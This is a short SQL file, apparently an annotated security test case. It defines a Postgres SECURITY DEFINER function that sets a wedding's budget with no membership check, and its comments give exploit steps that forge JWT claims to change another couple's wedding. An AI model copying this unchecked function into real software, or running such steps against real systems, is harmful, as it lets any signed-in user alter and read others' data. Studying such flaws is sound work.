-- The function takes the wedding as an argument and never asks whether the caller is a member of it.
-- about: set_budget, weddings
-- as: hf_veilplan_app
-- exploit: SET request.jwt.claims = '{"sub": "11111111-0000-0000-0000-000000000001"}';
-- exploit: SELECT 'done ' || public.set_budget('bbbbbbbb-0000-0000-0000-00000000000b', 1);
-- shows: done Castle-secret wedding
CREATE FUNCTION public.set_budget(target uuid, amount numeric) RETURNS text
LANGUAGE plpgsql SECURITY DEFINER SET search_path = public, pg_temp AS $$
DECLARE t text;
BEGIN
  IF public.current_user_id() IS NULL THEN
    RAISE EXCEPTION 'not signed in';
  END IF;
  UPDATE public.weddings SET budget = amount WHERE id = target RETURNING title INTO t;
  RETURN t;
END $$;
GRANT EXECUTE ON FUNCTION public.set_budget(uuid, numeric) TO hf_veilplan_app;
